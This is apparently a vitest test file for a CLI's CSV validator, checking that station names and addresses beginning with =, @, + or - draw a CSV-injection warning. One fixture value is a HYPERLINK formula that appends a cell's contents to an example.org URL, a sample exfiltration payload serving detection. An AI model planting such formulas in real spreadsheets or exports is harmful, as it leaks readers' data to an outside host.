// A name or address a spreadsheet would run as a formula (CSV injection) is said by `validate`: the
// CSV downloads publish cells as given, so the maintainer is the one who can tell a tampered feed.
import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { fixtureCopy, runCli, warningLines } from "../helpers.js";

/** The fixtures with Dublin #42's name and address written as given (CSV cells, quoted). */
async function dublin42Written(name: string, address: string): Promise<string> {
  const source = await fixtureCopy();
  const file = join(source, "stations.csv");
  const text = await readFile(file, "utf8");
  const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
  await writeFile(
    file,
    text.replace(
      "dublin,42,SMITHFIELD NORTH,Smithfield North,",
      `dublin,42,${quoted(name)},${quoted(address)},`,
    ),
  );
  return source;
}

describe("validate says a cell a spreadsheet would run as a formula", () => {
  it("warns of a name starting with = and an address with @, each on its field, published as given", async () => {
    const source = await dublin42Written('=HYPERLINK("https://example.org/?"&A2,"Map")', "@SUM(1)");
    const result = await runCli(["validate", "--source", source]);
    expect(result.code).toBe(0);
    const said = (field: string, text: string) =>
      `warning: ${source}/stations.csv:2 (dublin #42) ${field}: "${text}" starts as a formula does: a spreadsheet opening the CSV downloads runs it (CSV injection: it can send a reader's cells away, or start a command); check where it came from; published as given`;
    expect(warningLines(result.stderr)).toEqual([
      said("name", '=HYPERLINK("https://example.org/?"&A2,"Map")'),
      said("address", "@SUM(1)"),
    ]);
  });

  it("warns of + and -, not of those signs inside a name", async () => {
    const source = await dublin42Written("+1+2", "-3 Smithfield");
    const result = await runCli(["validate", "--source", source]);
    expect(warningLines(result.stderr).map((line) => line.split(": ")[1])).toEqual([
      `${source}/stations.csv:2 (dublin #42) name`,
      `${source}/stations.csv:2 (dublin #42) address`,
    ]);
    const inside = await dublin42Written("SMITHFIELD = NORTH", "Smithfield-North @ 1+1");
    expect(warningLines((await runCli(["validate", "--source", inside])).stderr)).toEqual([]);
  });
});
